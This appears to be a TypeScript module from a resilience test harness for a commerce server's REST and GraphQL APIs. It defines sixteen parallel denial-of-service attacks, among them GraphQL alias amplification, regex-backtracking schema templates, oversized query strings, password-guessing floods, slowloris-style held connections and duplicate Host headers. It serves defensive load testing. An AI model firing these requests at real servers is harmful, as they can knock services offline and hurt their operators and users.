import { Agent, type IncomingMessage, request, type RequestOptions } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** An attacker's knowledge about the server. */
export interface Target {
  readonly url: string;
  /** Token of an integration with all rights. Most attacks do not use it. */
  readonly token: string;
  readonly customerId: number;
  /** A SKU whose price is selected from thousands of rows. */
  readonly crowdedSku: string;
  readonly skus: readonly string[];
  readonly publicDocumentId: number;
}

/** A way to keep a server busy, performed repeatedly by several attackers at once. */
export interface Attack {
  readonly name: string;
  readonly parallel: number;
  /** Returns the status; 0 if the connection was cut. */
  readonly shoot: (target: Target, round: number) => Promise<number>;
}

/** Attackers use another address than the victim, as they would in reality. */
const FROM = '127.0.0.2';
const agent = new Agent({ keepAlive: true, maxSockets: 2000 });
const PATIENCE_MS = 60_000;

const sent = (
  { url }: Target,
  method: string,
  path: string,
  body: string | undefined,
  headers: Readonly<Record<string, string>> = {},
): Promise<number> =>
  new Promise((resolve) => {
    const options: RequestOptions = { method, agent, localAddress: FROM, timeout: PATIENCE_MS };
    const type = body === undefined ? {} : { 'content-type': 'application/json' };
    const asked = request(
      `${url}${path}`,
      { ...options, headers: { ...type, ...headers } },
      (answer: IncomingMessage) => {
        answer.on('error', () => resolve(0)).on('end', () => resolve(answer.statusCode ?? 0));
        answer.resume();
      },
    );
    asked.on('timeout', () => asked.destroy()).on('error', () => resolve(0));
    asked.end(body);
  });

const rest = (
  target: Target,
  method: string,
  path: string,
  body?: object,
  headers: Readonly<Record<string, string>> = {},
) =>
  sent(target, method, `/rest/V1/${path}`, body === undefined ? undefined : JSON.stringify(body), {
    authorization: `Bearer ${target.token}`,
    ...headers,
  });

const criteria = (filters: readonly (readonly [string, string, string])[], more: readonly string[] = []): string =>
  [
    ...filters.flatMap(([field, condition, value], group) => {
      const path = `searchCriteria[filterGroups][${group}][filters][0]`;
      return [
        `${path}[field]=${field}`,
        `${path}[conditionType]=${condition}`,
        `${path}[value]=${encodeURIComponent(value)}`,
      ];
    }),
    ...more,
  ].join('&');

const range = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => index);

/** 39 aliases that share a variable with hundreds of patterns. */
const crowdedQuery = JSON.stringify({
  query: `query($c: DppSearchCriteria) {${range(39)
    .map((index) => `a${index}: dppPassports(searchCriteria: $c) {total_count}`)
    .join(' ')}}`,
  variables: {
    c: {
      filterGroups: range(30).map((group) => ({
        filters: range(30).map((index) => ({ field: 'sku', conditionType: 'like', value: `%${group}-${index}%` })),
      })),
    },
  },
});

/** A text as long as a draft allows, for patterns that scan it repeatedly. */
const longText = 'x'.repeat(110_000);

const evilTemplate = (round: number) => ({
  code: `evil${round}`,
  version: '1.0.0',
  labels: { en: 'Evil' },
  espr_category: 'tools',
  granularity_allowed: ['model'],
  legal_basis: [],
  schema: {
    $schema: 'https://json-schema.org/draft/2020-12/schema',
    type: 'object',
    properties: {
      material: { anyOf: range(800).map((index) => ({ const: `constant ${index}` })) },
      text: { allOf: range(8).map((index) => ({ type: 'string', pattern: `${'(.{0,1000})'}${index}$` })) },
    },
  },
  sections: [{ id: 'all', labels: { en: 'All' }, fields: ['material', 'text'] }],
  vocabulary: {
    prefix: 'evil',
    iri: '/dpp/vocab/evil/1#',
    terms: Object.fromEntries(
      ['material', 'text'].map((iri) => [iri, { iri, type: 'text', labels: { en: iri }, definition: { en: iri } }]),
    ),
  },
  rules: [],
  example: { sku: 'EVIL', dpp_payload: { material: 'constant 1', text: 'x' } },
});

const draft = (round: number) => ({
  passport: {
    sku: `EVIL-${round}`,
    template_code: 'battery',
    dpp_payload: { chemistry: longText, [longText.slice(0, 5000)]: [] },
  },
});

const importLines = range(800)
  .map((index) =>
    JSON.stringify({ sku: `IMPORTED-${index}`, template_code: 'battery', dpp_payload: { chemistry: `${index}` } }),
  )
  .join('\n');

const bulkOf = ({ skus, customerId }: Target, round: number) => ({
  records: skus.map((sku, index) => ({ sku, customer_id: customerId, qty: 2 + (index % 7), value: 1 + (round % 90) })),
});

/** Opens a connection that announces a long body, sends some of it, and then stops. */
const held = ({ url, token }: Target, head: (host: string) => string, bytes: number): Promise<number> =>
  new Promise((resolve) => {
    const { hostname, port, host } = new URL(url);
    const socket = connect({ host: hostname, port: Number(port), localAddress: FROM });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(0));
    socket.write(head(`${host}\r\nAuthorization: Bearer ${token}`));
    if (bytes > 0) socket.write(Buffer.alloc(bytes, 0x20));
    setTimeout(() => socket.destroy(), 4000).unref();
  });

const priceQuestions = (target: Target, count: number) => range(count).map(() => ({ sku: target.crowdedSku, qty: 1 }));

export const ATTACKS: readonly Attack[] = [
  {
    name: 'GraphQL aliases that share a variable',
    parallel: 4,
    shoot: (target) => sent(target, 'POST', '/graphql', crowdedQuery),
  },
  {
    name: 'public lists by patterns',
    parallel: 16,
    shoot: (target, round) =>
      sent(target, 'GET', `/rest/V1/dpp/passports?${criteria([['sku', 'like', `%${round}%`]])}`, undefined),
  },
  {
    name: 'filters that are all negative',
    parallel: 4,
    shoot: (target) =>
      rest(
        target,
        'GET',
        `pricing/customerprice/search?${criteria(range(300).map((index) => ['sku', 'nlike', `%${index}%`]))}`,
      ),
  },
  {
    name: 'patterns without an index',
    parallel: 4,
    shoot: (target, round) =>
      rest(
        target,
        'GET',
        `pricing/customerprice/search?${criteria(range(50).map((index) => ['sku', 'nlike', `%${round}-${index}%`]))}`,
      ),
  },
  {
    name: 'thousands of sort orders',
    parallel: 4,
    shoot: (target) =>
      rest(
        target,
        'GET',
        `commerce/products/search?${criteria(
          [],
          range(1200).map((index) => `searchCriteria[sortOrders][${index}][field]=sku`),
        )}`,
      ),
  },
  {
    name: 'lint of thousands of values',
    parallel: 4,
    shoot: (target) =>
      rest(
        target,
        'GET',
        `pricing/lint?${criteria([
          [
            'sku',
            'in',
            range(5000)
              .map((index) => `S${index}`)
              .join(','),
          ],
        ])}`,
      ),
  },
  {
    name: 'sign-ins with wrong passwords',
    parallel: 60,
    shoot: (target, round) =>
      sent(
        target,
        'POST',
        '/rest/V1/integration/admin/token',
        JSON.stringify({ username: `nobody${round % 200}`, password: `wrong ${round} password` }),
      ),
  },
  {
    name: 'templates with endless choices',
    parallel: 4,
    shoot: (target, round) => rest(target, 'POST', 'dpp/manage/templates', { template: evilTemplate(round) }),
  },
  {
    name: 'drafts as large as they may be',
    parallel: 4,
    shoot: (target, round) => rest(target, 'POST', 'dpp/manage/passports', draft(round)),
  },
  {
    name: 'imports of passports that store nothing',
    parallel: 3,
    shoot: (target) =>
      sent(target, 'POST', '/rest/V1/dpp/manage/import?dryRun=1', importLines, {
        'content-type': 'application/x-ndjson',
        authorization: `Bearer ${target.token}`,
      }),
  },
  {
    name: 'bulk calls, best effort',
    parallel: 3,
    shoot: (target, round) => rest(target, 'POST', 'pricing/customerprice/bulk', bulkOf(target, round)),
  },
  {
    name: 'connections that hold a megabyte each',
    parallel: 1500,
    shoot: (target) =>
      held(
        target,
        (host) =>
          `POST /rest/V1/pricing/customerprice HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n`,
        1_000_000,
      ),
  },
  {
    name: 'connections that send heads bit by bit',
    parallel: 500,
    shoot: (target) =>
      held(target, (host) => `POST /rest/V1/pricing/customerprice HTTP/1.1\r\nHost: ${host}\r\nX-More: `, 10),
  },
  {
    name: 'the first byte of a document, again and again',
    parallel: 32,
    shoot: (target) =>
      sent(target, 'GET', `/rest/V1/customerdocuments/public/${target.publicDocumentId}/content`, undefined, {
        range: 'bytes=0-0',
      }),
  },
  {
    name: 'explanations of crowded prices',
    parallel: 8,
    shoot: (target) =>
      rest(target, 'POST', 'pricing/get-multi-price', {
        customer_id: target.customerId,
        items: priceQuestions(target, 500),
        explain: 1,
      }),
  },
  {
    name: 'two Host headers',
    parallel: 4,
    shoot: (target) =>
      held(target, (host) => `GET /rest/V1/dpp/passports HTTP/1.1\r\nHost: ${host}\r\nHost: evil\r\n\r\n`, 0),
  },
];

/** Attacks for this time. Returns the number of responses by status. */
export const attacked = async (
  attack: Attack,
  target: Target,
  forMs: number,
): Promise<Readonly<Record<string, number>>> => {
  const until = Date.now() + forMs;
  const statuses: Record<string, number> = {};
  let round = 0;
  await Promise.all(
    range(attack.parallel).map(async () => {
      while (Date.now() < until) {
        round += 1;
        const status = await Promise.race([
          attack.shoot(target, round),
          delay(until - Date.now() + 1000).then(() => -1),
        ]);
        statuses[status] = (statuses[status] ?? 0) + 1;
        // The connection was refused at once. The test does not measure how fast a loop can be refused.
        if (status === 0) await delay(50);
      }
    }),
  );
  return statuses;
};
